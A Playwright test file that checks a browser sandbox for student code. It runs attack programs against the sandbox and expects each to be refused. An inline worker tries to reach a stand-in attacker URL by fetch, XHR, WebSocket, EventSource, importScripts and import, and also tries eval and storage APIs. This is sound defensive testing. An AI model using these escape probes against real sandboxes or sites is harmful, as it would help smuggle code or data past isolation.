import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { compile } from '../../src/compile/index.ts';
import { bundleRealmOf } from '../../src/realm/bundle.ts';
import { bombs } from '../attacks/hangs.ts';
import { markup } from '../attacks/markup.ts';
import { attackerPort, attackerUrl, powers } from '../attacks/powers.ts';
import { reached, type AttackProgram } from '../attacks/program.ts';
import { smuggling } from '../attacks/smuggling.ts';
import { tampering } from '../attacks/tampering.ts';
import type { Runner } from '../../src/runner/client.ts';
import { loggingServer } from './support/logging-server.ts';
import { runnerInPage } from './support/runner-in-page.ts';

const realm = bundleRealmOf(join(import.meta.dirname, '..', 'attacks', 'world.ts'));

const solution = readFileSync(join(import.meta.dirname, '..', '..', 'exercises', 'fan-out-a-page', 'solution.ts'), 'utf8');
const asAnswer = ({ source }: AttackProgram) => source.replace('function attack(', 'function loadProfile(');

/** The server logs who comes, or this test could not fail; and nobody else came. */
async function expectOnlyOurselves(attacker: { readonly url: string; readonly seen: readonly string[] }): Promise<void> {
  await fetch(`${attacker.url}/ourselves`);
  expect(attacker.seen).toEqual(['GET /ourselves']);
}

/** A worker that keeps all its powers and tries them: only the policy and the opaque origin of the frame stand in its way. */
const unscrubbedRealm = `
  const tries = {
    fetch: () => fetch('${attackerUrl}/fetch', { mode: 'no-cors' }),
    'fetch of the site': () => fetch('/', { mode: 'no-cors' }),
    xhr: () => { const r = new XMLHttpRequest(); r.open('GET', '${attackerUrl}/xhr', false); r.send(); },
    websocket: () => new Promise((open, refuse) => { const s = new WebSocket('${attackerUrl.replace('http', 'ws')}/ws'); s.onopen = open; s.onerror = refuse; }),
    'event source': () => new Promise((open, refuse) => { const s = new EventSource('${attackerUrl}/events'); s.onopen = open; s.onerror = refuse; }),
    importScripts: () => importScripts('${attackerUrl}/script'),
    'import of a module': () => import('${attackerUrl}/module'),
    'import of a data module': () => import('data:text/javascript,1'),
    'nested data worker': () => new Promise((open, refuse) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = open; w.onerror = refuse; }),
    eval: () => (0, eval)('1'),
    Function: () => Function('return 1')(),
    indexedDB: () => new Promise((open, refuse) => { const r = indexedDB.open('attack'); r.onsuccess = open; r.onerror = refuse; }),
    caches: () => caches.open('attack'),
    'origin private files': () => navigator.storage.getDirectory(),
    locks: () => navigator.locks.request('attack', () => {}),
  };
  onmessage = async ({ data: { out } }) => {
    const tried = {};
    for (const [name, act] of Object.entries(tries)) {
      const late = new Promise((resolve) => setTimeout(resolve, 500, 'refused by silence'));
      try { tried[name] = await Promise.race([Promise.resolve(act()).then(() => 'GOT THROUGH', (e) => 'refused ' + e), late]); }
      catch (e) { tried[name] = (e instanceof ReferenceError || e instanceof TypeError ? 'absent ' : 'refused ') + e; }
    }
    new BroadcastChannel('attack').postMessage('here');
    out.postMessage({ type: 'tried', tried });
    out.postMessage({ type: 'end', runs: 0 });
    postMessage('finished');
  };
  postMessage('ready');
`;

interface BombEnd {
  readonly kind?: string;
  readonly durationMs: number;
  readonly next: string;
}

/** Runs in the page, and leaves its findings where another page can see them. */
function bombThenSolve({ bombs, solution }: { bombs: readonly string[]; solution: string }): void {
  const { runner } = globalThis as unknown as { runner: Runner };
  const exercise = 'fan-out-a-page';
  const ends: BombEnd[] = [];
  const work = async () => {
    for (const source of bombs) {
      const { verdict, durationMs } = await runner.run({ exercise, source });
      const next = await runner.run({ exercise, source: solution });
      ends.push({ ...(verdict.failure ? { kind: verdict.failure.kind } : {}), durationMs, next: next.verdict.verdict });
    }
    localStorage.setItem('bombed', JSON.stringify(ends));
  };
  work().catch((error: unknown) => localStorage.setItem('bombed', JSON.stringify([String(error)])));
}

/** Runs each program in the sandbox of the built site and gives back those that got through, with what they got. */
async function survivors(page: Page, programs: readonly AttackProgram[]): Promise<string[]> {
  const runner = await runnerInPage(page, '/exercises/fan-out-a-page/');
  const through: string[] = [];
  for (const { name, source, doesNotCompile } of programs) {
    const compiled = compile(source);
    expect([name, compiled.ok]).toEqual([name, !doesNotCompile]);
    if (!compiled.ok) continue;
    const { messages, end, blockedMs } = await runner.execute(await realm, compiled.code);
    const traces = JSON.stringify(messages);
    if (traces.includes(reached)) through.push(`${name}: ${traces.slice(0, 500)}`);
    if (end && end.how !== 'wall-clock') through.push(`${name}: ended ${JSON.stringify(end)}`);
    if (blockedMs > 150) through.push(`${name}: blocked the page for ${blockedMs} ms`);
  }
  return through;
}

test('no program reaches the network, the storage, the page or the evaluation of text', async ({ page, context }) => {
  test.setTimeout(180_000);
  const attacker = await loggingServer(attackerPort);
  const elsewhere: string[] = [];
  context.on('request', (request) => {
    if (request.url().startsWith(attacker.url)) elsewhere.push(request.url());
  });
  try {
    expect(await survivors(page, powers)).toEqual([]);
    await expectOnlyOurselves(attacker);
    expect(elsewhere).toEqual([]);
    const kept = await page.evaluate(async () => ({
      databases: (await indexedDB.databases()).map(({ name }) => name),
      caches: await caches.keys(),
      local: localStorage.getItem('attack'),
    }));
    expect(JSON.stringify(kept)).not.toContain('attack');
  } finally {
    await attacker.close();
  }
});

test('code that got past the scrubbing would still find the frame shut', async ({ page }) => {
  const attacker = await loggingServer(attackerPort);
  try {
    const runner = await runnerInPage(page, '/exercises/fan-out-a-page/');
    const heard = page.evaluate(
      () => new Promise((resolve) => (new BroadcastChannel('attack').onmessage = resolve)).then(() => 'heard') as Promise<string>,
    );
    heard.catch(() => {});
    const { messages } = await runner.execute(unscrubbedRealm, '');
    const { tried } = messages[0] as unknown as { tried: Record<string, string> };
    for (const [name, outcome] of Object.entries(tried)) expect(`${name}: ${outcome}`).toMatch(/refused|absent/);
    expect(Object.keys(tried).length).toBeGreaterThan(10);
    expect(await Promise.race([heard, page.waitForTimeout(200).then(() => 'silence')])).toBe('silence');
    await expectOnlyOurselves(attacker);
  } finally {
    await attacker.close();
  }
});

test('a program that fills the memory is named, and the page outlives it', async ({ context }) => {
  test.setTimeout(120_000);
  // Playwright takes a page for crashed when the process of any frame in it ends, so a second page watches the first.
  const [attacked, watcher] = [await context.newPage(), await context.newPage()];
  await runnerInPage(attacked, '/exercises/fan-out-a-page/');
  await watcher.goto('/');
  await attacked.evaluate(bombThenSolve, { bombs: bombs.map(asAnswer), solution });
  await watcher.waitForFunction(() => localStorage.getItem('bombed') !== null, undefined, { timeout: 60_000 });
  const ends = JSON.parse((await watcher.evaluate(() => localStorage.getItem('bombed'))) ?? '[]') as BombEnd[];
  expect(ends).toHaveLength(bombs.length);
  for (const { kind, durationMs, next } of ends) {
    expect(['sandbox-crashed', 'wall-clock', 'loop-budget', 'unanswered', undefined]).toContain(kind);
    expect(durationMs).toBeLessThan(2500);
    expect(next).toBe('pass');
  }
});

test('no program carries a note over a crash or from one run to the next', async ({ page }) => {
  test.setTimeout(180_000);
  expect(await survivors(page, smuggling)).toEqual([]);
});

test('no program changes what the lab does, or breaks it by the values that it hands over', async ({ page }) => {
  test.setTimeout(300_000);
  expect(await survivors(page, tampering)).toEqual([]);
});

test('no text of a program becomes markup on its way through the sandbox', async ({ page }) => {
  await survivors(page, markup);
  expect(await page.title()).not.toContain(reached);
});
